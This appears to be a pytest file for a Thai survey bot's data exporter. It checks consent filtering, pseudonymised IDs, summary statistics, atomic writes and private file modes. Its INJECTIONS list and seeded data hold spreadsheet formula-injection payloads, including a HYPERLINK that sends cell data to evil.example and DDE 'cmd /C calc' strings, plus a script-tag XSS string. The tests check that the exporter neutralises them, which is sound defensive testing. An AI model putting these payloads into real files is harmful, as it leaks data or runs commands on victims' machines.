"""The export set against a database built here: known answers → exact rows and summary numbers,
computed independently below from the same plain data (no code shared with exports/)."""

from __future__ import annotations

import csv
import io
import statistics
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.model import Answer, Outcome, State
from bot.surveys import Catalog
from exports import export_zip, export_zip_bytes, write_dated_export, write_export
from exports.csvfiles import write_csv
from exports.tables import TABLES
from storage import Database
from storage.outreach import add_session
from storage.queries import Filter
from tests import kinds


@pytest.fixture(scope="session")
def catalog(agreement_catalog: Catalog) -> Catalog:
    """These answers are ratings on the agreement scale: the survey form that asks them."""
    return agreement_catalog


BKK = ZoneInfo("Asia/Bangkok")
T0 = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)  # 10:00 in Bangkok
SKIP = object()
FILES = {f"{t.name}.csv" for t in TABLES} | {"README.txt", "datapackage.json"}

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@dataclass
class P:
    """One participant as plain data: what the test expects the export to show."""

    channel: str
    user_ref: str
    consent: str | None
    group: str | None = None
    region: str | None = None
    age: str | None = None
    lang: str = "th"
    answers: dict[str, tuple[object, int]] = field(default_factory=dict)  # key -> (option|text|SKIP, minute)
    started: dict[str, int] = field(default_factory=dict)  # area -> minute
    completed: dict[str, int] = field(default_factory=dict)
    pending_area: str | None = None
    registrations: dict[str, int] = field(default_factory=dict)  # session name -> minute


def at(minute: int) -> datetime:
    return T0 + timedelta(minutes=minute)


def bkk(minute: int) -> str:
    return at(minute).astimezone(BKK).isoformat(timespec="seconds")


PEOPLE = [
    P(
        "telegram",
        "tg-7000001",
        "given",
        "citizen",
        "bangkok",
        "a30_39",
        "th",
        answers={
            "education.learner_data.current": ("4", 1),
            "education.learner_data.feasible": ("5", 2),
            "education.learner_data.appropriate": ("dk", 3),
            "education.lifelong_platform.current": ("2", 4),
            "education.lifelong_platform.why": ('ข้อมูลไม่ครบ, ต้อง "ปรับปรุง"\nบรรทัดที่สอง', 5),
            "education..problems": (INJECTIONS[0], 6),
            "education..expectations": (SKIP, 7),
        },
        started={"education": 0},
        completed={"education": 8},
        registrations={"bangkok": 9},
    ),
    P(
        "line",
        "U0123456789abcdef0123456789abcdef",
        "given",
        "sme",
        "north",
        None,
        "en",
        answers={
            "education.learner_data.current": ("2", 10),
            "education.learner_data.feasible": ("4", 11),
            "education.learner_data.appropriate": ("4", 12),
            "education.learner_data.why": (INJECTIONS[2], 13),
            "health.telemedicine.current": ("5", 60 * 24 * 3),
            "health..problems": ("<script>alert(1)</script> ยาไม่พอ & คิวยาว", 60 * 24 * 3 + 1),
        },
        started={"education": 9, "health": 60 * 24 * 3},
        registrations={"bangkok": 20, "online": 21},
    ),
    P(  # declined: nothing of theirs may ever be exported, though rows exist
        "line",
        "Ufedcba9876543210fedcba9876543210",
        "declined",
        "citizen",
        "south",
        lang="th",
        answers={"education.learner_data.current": ("1", 30), "education..problems": ("declined secret", 31)},
        pending_area="education",
        registrations={"bangkok": 32},
    ),
    P(
        "console",
        "console-demo",
        "given",
        "citizen",
        "bangkok",
        "a60",
        "th",
        answers={
            "education.learner_data.current": ("3", 40),
            "education.learner_data.feasible": ("1", 41),
            "education.learner_data.appropriate": ("5", 42),
            "education.learner_data.why": (SKIP, 43),
            "education..missed": (INJECTIONS[3], 44),
            "education..expectations": ("\t=1+1", 45),
        },
        started={"education": 39},
        completed={"education": 46},
    ),
    P("telegram", "tg-7000005", None, lang="th", pending_area="health"),  # arrived by a deep link, no consent yet
    P(
        "telegram",
        "tg-7000006",
        "given",
        "farmer",
        "northeast",
        "a40_49",
        "th",
        answers={
            "agriculture.farmer_registry.current": ("dk", 50),
            "agriculture.farmer_registry.feasible": ("3", 51),
            "agriculture..problems": (INJECTIONS[1] + " ราคาผลผลิต", 52),
            "agriculture..expectations": (INJECTIONS[5], 53),
        },
        started={"agriculture": 49},
    ),
]


def is_text(catalog: Catalog, key: str) -> bool:
    step = catalog.step(key)
    assert step is not None, key
    return step.question.kind == "text"


def answer(catalog: Catalog, key: str, value: object, minute: int, lang: str) -> Answer:
    if value is SKIP:
        return Answer(skipped=True, lang=lang, at=at(minute))
    if is_text(catalog if catalog.step(key) else kinds.agreement_catalog(), key):
        return Answer(text=str(value), lang=lang, at=at(minute))
    return Answer(option=str(value), value=None if value == "dk" else int(str(value)), lang=lang, at=at(minute))


async def seed(db: Database, catalog: Catalog, people: list[P] = PEOPLE) -> dict[str, int]:
    """Store the people through the same path the engine's decisions take; return the session ids."""
    sessions = {
        "bangkok": await add_session(
            db,
            area="education",
            title_th="ระดมความคิดเห็น ด้านการศึกษา",
            title_en="Education focus group",
            starts_at=datetime(2026, 12, 1, 2, 0, tzinfo=UTC),
            ends_at=datetime(2026, 12, 1, 5, 0, tzinfo=UTC),
            place="=cmd|' /C calc'!A0 ห้องประชุม",
            capacity=40,
            now=T0,
        ),
        "online": await add_session(
            db,
            area="health",
            title_th="ด้านสุขภาพ (ออนไลน์)",
            title_en="Health (online)",
            starts_at=datetime(2026, 12, 2, 7, 0, tzinfo=UTC),
            ends_at=None,
            place=None,
            capacity=None,
            now=T0,
        ),
    }
    for p in people:
        state = State(
            lang=p.lang,  # type: ignore[arg-type]
            consent=p.consent,  # type: ignore[arg-type]
            consent_at=at(0) if p.consent == "given" else None,
            consent_version="1" if p.consent == "given" else None,
            group=p.group,
            region=p.region,
            age=p.age,
            step="menu" if p.consent == "given" else "consent",
            pending_area=p.pending_area,
            answers={k: answer(catalog, k, v, m, p.lang) for k, (v, m) in p.answers.items()},
            started={a: at(m) for a, m in p.started.items()},
            completed={a: at(m) for a, m in p.completed.items()},
            registrations={sessions[name]: at(m) for name, m in p.registrations.items()},
        )
        await db.handle_event(
            p.channel, p.user_ref, None, lambda _old, s=state: Outcome(state=s), at(0), survey_version=catalog.version
        )
    return sessions


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no BOM"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def pseudonyms(db: Database) -> dict[str, str]:
    return {p.user_ref: db.pseudonym(p.channel, p.user_ref) for p in PEOPLE}


def neutral(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠") else text


@pytest.fixture
async def seeded(db: Database, catalog: Catalog) -> dict[str, int]:
    return await seed(db, catalog)


@pytest.fixture
async def exported(db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path) -> Path:
    out = tmp_path / "export"
    await write_export(db, out, catalog=catalog, now=at(100))
    return out


# ---- the files ----------------------------------------------------------------------------------


async def test_writes_every_file_with_bom_headers_and_readme(exported: Path) -> None:
    assert {p.name for p in exported.iterdir()} == FILES
    readme = (exported / "README.txt").read_text(encoding="utf-8-sig")
    for table in TABLES:
        assert [*read_csv(exported / table.file)[0]] == [c.name for c in table.columns]
        assert table.file in readme
        for column in table.columns:
            assert f"  {column.name} " in readme, (table.name, column.name)
    assert "Generated: 2026-11-20T11:40:00+07:00" in readme
    assert "responses.csv: 21" in readme


async def test_responses_are_exact(db: Database, catalog: Catalog, exported: Path) -> None:
    ids = pseudonyms(db)
    expected = []
    for order, p in enumerate(PEOPLE):
        if p.consent != "given":
            continue
        for key, (value, minute) in p.answers.items():
            if value is SKIP:
                continue
            area, item, question = key.split(".")
            text = is_text(catalog, key)
            expected.append(
                (
                    (order, area, minute, item, question),
                    {
                        "respondent": ids[p.user_ref],
                        "channel": p.channel,
                        "stakeholder_group": p.group or "",
                        "region": p.region or "",
                        "area": area,
                        "item_id": item,
                        "question_id": question,
                        "round": "1",
                        "value": "" if text or value == "dk" else str(value),
                        "option_id": "" if text else str(value),
                        "text": neutral(str(value)) if text else "",
                        "language": p.lang,
                        "answered_at": bkk(minute),
                        "survey_version": catalog.version,
                        "source": "chat",
                        "session_id": "",
                    },
                )
            )
    rows = read_csv(exported / "responses.csv")
    assert rows == [row for _, row in sorted(expected, key=lambda e: e[0])]
    assert len(rows) == 21


async def test_comments_carry_wording_and_are_neutralised(db: Database, catalog: Catalog, exported: Path) -> None:
    ids = pseudonyms(db)
    rows = read_csv(exported / "comments.csv")
    position = {
        (s.area, s.item_id, s.question.id): i for i, s in enumerate(s for a in catalog.areas for s in catalog.flow(a))
    }
    expected = []
    for p in PEOPLE:
        if p.consent != "given":
            continue
        for key, (value, minute) in p.answers.items():
            if value is SKIP or not is_text(catalog, key):
                continue
            area, item, question = key.split(".")
            step = catalog.step(key)
            assert step is not None
            sort = (position[(area, item, question)], minute)
            expected.append(
                (
                    sort,
                    {
                        "respondent": ids[p.user_ref],
                        "channel": p.channel,
                        "stakeholder_group": p.group or "",
                        "region": p.region or "",
                        "area": area,
                        "item_id": item,
                        "capability": step.item.capability.th if step.item else "",
                        "question_id": question,
                        "question": step.question.prompt.th,
                        "text": neutral(str(value)),
                        "language": p.lang,
                        "answered_at": bkk(minute),
                    },
                )
            )
    assert rows == [row for _, row in sorted(expected, key=lambda e: e[0])]
    thai = next(r for r in rows if r["item_id"] == "lifelong_platform")
    assert thai["text"] == 'ข้อมูลไม่ครบ, ต้อง "ปรับปรุง"\nบรรทัดที่สอง'  # quotes, comma, newline survive
    assert thai["capability"] == "แพลตฟอร์มการเรียนรู้ดิจิทัลตลอดชีวิต"


async def test_injection_payloads_are_neutralised_everywhere(exported: Path) -> None:
    seen = {}
    for name in FILES - {"README.txt", "datapackage.json"}:
        for row in read_csv(exported / name):
            for value in row.values():
                for payload in INJECTIONS:
                    if payload in value:
                        seen[payload] = value
                assert not value.startswith(("=", "+", "@", "\t", "＝")), (name, value)
                assert not (value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit()), value
    assert set(seen) == set(INJECTIONS)
    for payload, value in seen.items():
        assert value.startswith("'") and value[1:].startswith(payload[:1])
    sessions = read_csv(exported / "sessions.csv")
    assert sessions[0]["place"] == "'=cmd|' /C calc'!A0 ห้องประชุม"


HIDDEN_PREFIXES = [
    "\u200b",  # zero-width space
    "\ufeff",  # byte-order mark / zero-width no-break space
    "\u202e",  # right-to-left override
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",  # bidi isolates
    "\u200e",
    "\u200f",  # direction marks
    "\u200d\u2060\u00ad",  # joiner, word joiner, soft hyphen
    "\u00a0",
    "\u3000",
    " ",
    "\u034f",  # spaces, combining grapheme joiner
    "\u200b\u200b\ufeff ",
]
SIGNS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1"]


@pytest.mark.parametrize("prefix", HIDDEN_PREFIXES)
def test_invisible_characters_before_a_formula_do_not_hide_it(prefix: str) -> None:
    from exports.csvfiles import neutralise

    for sign in SIGNS:
        assert neutralise(prefix + sign) == "'" + prefix + sign, (prefix, sign)
    assert neutralise(prefix + "ปกติ =1") == prefix + "ปกติ =1"  # visible text first: not a formula
    assert neutralise(prefix) == prefix


async def test_hidden_formulas_are_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    import openpyxl

    from exports.csvfiles import XlsxBook

    payloads = [p + s for p in HIDDEN_PREFIXES for s in SIGNS]

    async def rows():
        for p in payloads:
            yield (p,)

    await write_csv(tmp_path / "t.csv", [("text", "text")], rows())
    assert [r["text"] for r in read_csv(tmp_path / "t.csv")] == ["'" + p for p in payloads]
    book = XlsxBook(tmp_path / "t.xlsx")
    await book.write("t", [("text", "text")], rows())
    book.close()
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx", read_only=True)["t"]
    cells = [r[0].replace("_x000D_", "\r") for r in sheet.iter_rows(min_row=2, values_only=True)]  # XML escape
    assert cells == ["'" + p for p in payloads]


async def test_participants_only_consenting(db: Database, exported: Path) -> None:
    ids = pseudonyms(db)
    rows = read_csv(exported / "participants.csv")
    expected = [
        {
            "respondent": ids[p.user_ref],
            "channel": p.channel,
            "stakeholder_group": p.group or "",
            "region": p.region or "",
            "age_band": p.age or "",
            "language": p.lang,
            "consent_at": bkk(0),
            "consent_version": "1",
            "areas_started": " ".join(sorted(p.started)),
            "areas_completed": " ".join(sorted(p.completed)),
        }
        for p in PEOPLE
        if p.consent == "given"
    ]
    assert rows == expected


async def test_no_platform_ids_anywhere(db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        out = tmp_path / fmt
        await write_export(db, out, fmt=fmt, catalog=catalog)
        blob = b"".join(p.read_bytes() for p in out.iterdir())
        if fmt == "xlsx":
            with zipfile.ZipFile(out / "rabfang-export.xlsx") as z:
                blob += b"".join(z.read(n) for n in z.namelist())
        for p in PEOPLE:
            assert p.user_ref.encode() not in blob
        assert b"declined secret" not in blob


async def test_sessions_and_registrations(db: Database, exported: Path, seeded: dict[str, int]) -> None:
    ids = pseudonyms(db)
    sessions = read_csv(exported / "sessions.csv")
    assert [(s["session_id"], s["area"], s["registrations"], s["capacity"]) for s in sessions] == [
        (str(seeded["bangkok"]), "education", "2", "40"),  # the declined participant's registration is not counted
        (str(seeded["online"]), "health", "1", ""),
    ]
    assert sessions[0]["starts_at"] == "2026-12-01T09:00:00+07:00"
    assert sessions[0]["title_th"] == "ระดมความคิดเห็น ด้านการศึกษา"
    assert sessions[1]["ends_at"] == "" and sessions[1]["place"] == ""
    regs = read_csv(exported / "registrations.csv")
    p1, p2 = PEOPLE[0], PEOPLE[1]
    assert [(r["session_id"], r["respondent"], r["channel"], r["registered_at"]) for r in regs] == [
        (str(seeded["bangkok"]), ids[p1.user_ref], "telegram", bkk(9)),
        (str(seeded["bangkok"]), ids[p2.user_ref], "line", bkk(20)),
        (str(seeded["online"]), ids[p2.user_ref], "line", bkk(21)),
    ]


async def test_empty_database_gives_headers_only(db: Database, catalog: Catalog, tmp_path: Path) -> None:
    result = await write_export(db, tmp_path / "e", catalog=catalog)
    for name in ("responses.csv", "comments.csv", "participants.csv", "sessions.csv", "registrations.csv"):
        assert result.rows[name] == 0
        assert read_csv(tmp_path / "e" / name) == []
    summary = read_csv(tmp_path / "e" / "summary.csv")
    ratings = [r for r in summary if r["section"] == "rating"]
    # every rating question of every area is listed, at n = 0
    assert len(ratings) == sum(
        1 for a in catalog.areas for s in catalog.flow(a) if s.question.kind == "rating"
    ) and all(r["n"] == "0" and r["mean"] == "" for r in ratings)


# ---- summary.csv ------------------------------------------------------------------------------


def independent_stats(catalog: Catalog, people: list[P], flt_area: str | None = None) -> dict[tuple, dict]:
    """n, mean, median, counts, don't know and % agree per scope, from the plain data above."""
    cells: dict[tuple, list[object]] = {}
    for p in people:
        if p.consent != "given":
            continue
        for key, (value, _) in p.answers.items():
            if value is SKIP or is_text(catalog, key):
                continue
            area, item, question = key.split(".")
            if flt_area and area != flt_area:
                continue
            for scope, group in (
                ("all", ""),
                ("stakeholder_group", p.group or ""),
                ("region", p.region or ""),
                ("channel", p.channel),
            ):
                cells.setdefault((scope, group, area, item, question), []).append(value)
    out = {}
    for k, values in cells.items():
        ratings = [int(str(v)) for v in values if v != "dk"]
        c = Counter(ratings)
        n = len(ratings)
        out[k] = {
            "n": str(n),
            "mean": str(round(statistics.fmean(ratings), 3)) if n else "",
            "median": str(float(statistics.median(ratings))) if n else "",
            **{f"n_{v}": str(c[v]) for v in range(1, 6)},
            "n_dont_know": str(values.count("dk")),
            "pct_agree": str(round(100 * (c[4] + c[5]) / n, 1)) if n else "",
        }
    return out


NUMBERS = ("n", "mean", "median", "n_1", "n_2", "n_3", "n_4", "n_5", "n_dont_know", "pct_agree")


async def test_summary_numbers_match_an_independent_computation(catalog: Catalog, exported: Path) -> None:
    rows = [r for r in read_csv(exported / "summary.csv") if r["section"] == "rating"]
    got = {(r["scope"], r["group"], r["area"], r["item_id"], r["question_id"]): r for r in rows}
    want = independent_stats(catalog, PEOPLE)
    for key, numbers in want.items():
        assert {f: got[key][f] for f in NUMBERS} == numbers, key
    # rows beyond the expected ones are only the unanswered questions (scope all, n = 0)
    extra = set(got) - set(want)
    assert extra and all(k[0] == "all" and got[k]["n"] == "0" and got[k]["pct_agree"] == "" for k in extra)
    # spot checks, by hand
    current = got[("all", "", "education", "learner_data", "current")]  # 4, 2, 3
    assert (current["n"], current["mean"], current["median"], current["pct_agree"]) == ("3", "3.0", "3.0", "33.3")
    appropriate = got[("all", "", "education", "learner_data", "appropriate")]  # dk, 4, 5
    assert (appropriate["n"], appropriate["n_dont_know"], appropriate["median"], appropriate["pct_agree"]) == (
        "2",
        "1",
        "4.5",
        "100.0",
    )
    assert (current["current_level"], current["target_level"]) == ("2", "4")
    citizens = got[("stakeholder_group", "citizen", "education", "learner_data", "feasible")]  # 5, 1
    assert (citizens["n"], citizens["mean"], citizens["median"], citizens["pct_agree"]) == ("2", "3.0", "3.0", "50.0")
    teachers = got[("all", "", "education", "teacher_skills", "appropriate")]
    assert (teachers["n"], teachers["current_level"], teachers["target_level"]) == ("0", "2", "3")
    # scope order: all, then stakeholder groups, regions, channels
    scopes = [r["scope"] for r in rows]
    assert scopes == sorted(scopes, key=["all", "stakeholder_group", "region", "channel"].index)


async def test_funnel(exported: Path) -> None:
    rows = [r for r in read_csv(exported / "summary.csv") if r["section"] == "funnel"]
    got = {(r["area"], r["scope"], r["group"]): (r["started"], r["consented"], r["completed"]) for r in rows}
    want: dict[tuple[str, str, str], list[int]] = {}
    for p in PEOPLE:
        consented = p.consent == "given"
        areas = set(p.started) | ({p.pending_area} if p.pending_area else set())
        for area, done in [("", bool(p.completed))] + [(a, a in p.completed) for a in areas]:
            for scope, group in (("all", ""), ("channel", p.channel)):
                cell = want.setdefault((area, scope, group), [0, 0, 0])
                cell[0] += 1
                cell[1] += consented
                cell[2] += consented and done
    assert {k: v for k, v in got.items() if v != ("0", "0", "0")} == {k: tuple(map(str, v)) for k, v in want.items()}
    assert got[("health", "all", "")] == ("2", "1", "0")  # line (consented) + telegram deep link (not yet)
    assert got[("", "all", "")] == ("6", "4", "2")
    assert got[("education", "all", "")] == ("4", "3", "2")


# ---- filters ------------------------------------------------------------------------------------


async def test_filters(db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path) -> None:
    out = tmp_path / "f"
    await write_export(db, out, Filter(area="education", channel="line"), catalog=catalog)
    rows = read_csv(out / "responses.csv")
    assert {(r["area"], r["channel"]) for r in rows} == {("education", "line")} and len(rows) == 4
    assert [r["areas_started"] for r in read_csv(out / "participants.csv")] == ["education"]
    summary = read_csv(out / "summary.csv")
    assert {r["area"] for r in summary} == {"education"}
    assert {r["group"] for r in summary if r["scope"] == "channel"} == {"line"}
    assert [r["session_id"] for r in read_csv(out / "sessions.csv")] == [str(seeded["bangkok"])]

    await write_export(db, out, Filter(since=at(60 * 24)), catalog=catalog)  # the health answers, 3 days later
    assert {r["question_id"] for r in read_csv(out / "responses.csv")} == {"current", "problems"}
    await write_export(db, out, Filter(until=at(10)), catalog=catalog)
    assert {r["answered_at"] for r in read_csv(out / "responses.csv")} == {bkk(m) for m in (1, 2, 3, 4, 5, 6)}


# ---- xlsx, zip --------------------------------------------------------------------------------


async def test_xlsx_has_typed_cells(db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "x"
    result = await write_export(db, out, fmt="xlsx", catalog=catalog)
    assert sorted(p.name for p in out.iterdir()) == ["README.txt", "rabfang-export.xlsx"]
    book = openpyxl.load_workbook(out / "rabfang-export.xlsx", read_only=True)
    assert book.sheetnames == [t.name for t in TABLES]
    responses = list(book["responses"].iter_rows(values_only=True))
    assert len(responses) - 1 == result.rows["responses"] == 21
    header = responses[0]
    first = next(r for r in (dict(zip(header, r, strict=True)) for r in responses[1:]) if r["question_id"] == "current")
    assert first["value"] == 4 and isinstance(first["value"], int)
    assert first["answered_at"] == bkk(1)
    comments = [dict(zip(header, r, strict=True)) for r in responses[1:] if r[header.index("text")]]
    assert any(c["text"] == "'" + INJECTIONS[0] for c in comments)
    assert any("บรรทัดที่สอง" in c["text"] for c in comments)
    summary = list(book["summary"].iter_rows(values_only=True))
    mean = summary[0].index("mean")
    assert any(isinstance(r[mean], float) for r in summary[1:])


async def test_zip_bytes(db: Database, catalog: Catalog, seeded: dict[str, int]) -> None:
    name, content = await export_zip_bytes(db, catalog=catalog, now=at(100))
    assert name == "rabfang-export-2026-11-20_1140.zip"
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert {n.split("/", 1)[1] for n in z.namelist()} == FILES
        assert {n.split("/", 1)[0] for n in z.namelist()} == {"rabfang-export-2026-11-20_1140"}
        text = z.read("rabfang-export-2026-11-20_1140/responses.csv")
    assert text.startswith(b"\xef\xbb\xbf") and "ข้อมูลไม่ครบ".encode() in text


# ---- atomic writes ------------------------------------------------------------------------------


async def test_a_reader_never_sees_half_a_file(tmp_path: Path) -> None:
    path = tmp_path / "responses.csv"
    path.write_bytes(b"old complete file")
    columns = [("a", "integer"), ("b", "text")]

    async def rows(fail_at: int | None):
        for i in range(25_000):
            if i == 12_345:
                assert path.read_bytes() == b"old complete file"  # mid-write, the old file is whole
            if i == fail_at:
                raise OSError("disk full")
            yield (i, "ก")

    with pytest.raises(OSError, match="disk full"):
        await write_csv(path, columns, rows(20_000))
    assert path.read_bytes() == b"old complete file"
    assert [p.name for p in tmp_path.iterdir()] == ["responses.csv"]  # no temporary left behind

    assert await write_csv(path, columns, rows(None)) == 25_000
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "a,b" and lines[-1] == "24999,ก" and len(lines) == 25_001
    assert [p.name for p in tmp_path.iterdir()] == ["responses.csv"]


async def test_failed_export_leaves_previous_files(
    db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "e"
    await write_export(db, out, catalog=catalog)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    from exports import tables

    async def broken(conn, ctx):
        yield ("p", "line", "", "", "", "th", "2026-11-20T03:00:00+00:00", "1", "", "")
        raise RuntimeError("boom")

    idx = next(i for i, t in enumerate(tables.TABLES) if t.name == "participants")
    patched = list(tables.TABLES)
    patched[idx] = tables.Table("participants", "", tables.TABLES[idx].columns, broken)
    monkeypatch.setattr("exports.export.TABLES", tuple(patched))
    with pytest.raises(RuntimeError, match="boom"):
        await write_export(db, out, catalog=catalog)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


async def test_xlsx_continues_a_long_table_on_the_next_sheet(
    db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import openpyxl

    from exports.csvfiles import XlsxBook

    monkeypatch.setattr(XlsxBook, "MAX_ROWS", 9)  # a header and 8 rows per sheet
    await write_export(db, tmp_path / "x", fmt="xlsx", catalog=catalog)
    book = openpyxl.load_workbook(tmp_path / "x" / "rabfang-export.xlsx", read_only=True)
    parts = [n for n in book.sheetnames if n.startswith("responses")]
    assert parts == ["responses", "responses_2", "responses_3"]
    sheets = [list(book[n].iter_rows(values_only=True)) for n in parts]
    assert all(s[0][0] == "respondent" for s in sheets)
    assert [len(s) - 1 for s in sheets] == [8, 8, 5]


def test_exports_never_touch_the_database_driver() -> None:
    """exports/ reads through storage.queries.Snapshot only, so a second backend needs no change there."""
    import exports

    folder = Path(exports.__file__).parent
    for source in sorted(folder.rglob("*.py")):
        text = source.read_text(encoding="utf-8")
        assert "aiosqlite" not in text and "sqlite3" not in text, source.name


# ---- file modes -------------------------------------------------------------------------------


@pytest.fixture
def open_umask():
    """The most permissive umask: whatever the modes are, they come from the code, not the umask."""
    import os

    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_files_are_0600_and_folders_0700(
    db: Database, catalog: Catalog, seeded: dict[str, int], tmp_path: Path, open_umask: None, fmt: str
) -> None:
    out = tmp_path / "new" / "nested" / "export"
    await write_export(db, out, fmt=fmt, catalog=catalog)  # type: ignore[arg-type]
    assert {mode(p) for p in out.iterdir()} == {0o600}
    assert mode(out) == mode(out.parent) == mode(out.parent.parent) == 0o700

    root = tmp_path / "scheduled" / "exports"
    folder = await write_dated_export(db, root, keep=3, catalog=catalog, now=at(100), fmt=fmt)  # type: ignore[arg-type]
    assert mode(root) == mode(root.parent) == mode(folder) == 0o700
    assert {mode(p) for p in folder.iterdir()} == {0o600}

    zipped = await export_zip(db, out / "set.zip", catalog=catalog, now=at(100))
    assert mode(zipped) == 0o600


async def test_a_file_is_private_while_it_is_being_written(tmp_path: Path, open_umask: None) -> None:
    from exports.csvfiles import XlsxBook

    seen: list[int] = []

    async def rows():
        for p in tmp_path.iterdir():
            seen.append(mode(p))
        yield ("x",)

    await write_csv(tmp_path / "a.csv", [("t", "text")], rows())
    book = XlsxBook(tmp_path / "b.xlsx")
    await book.write("b", [("t", "text")], rows())
    book.close()
    assert len(seen) == 3 and set(seen) == {0o600}  # a.csv's temp file; then a.csv and b.xlsx's
    assert {p.name: mode(p) for p in tmp_path.iterdir()} == {"a.csv": 0o600, "b.xlsx": 0o600}


async def test_an_existing_folder_keeps_its_mode(db: Database, catalog: Catalog, tmp_path: Path, open_umask: None):
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    await write_export(db, shared, catalog=catalog)
    assert mode(shared) == 0o755  # the operator's folder; the files in it are still private
    assert {mode(p) for p in shared.iterdir()} == {0o600}
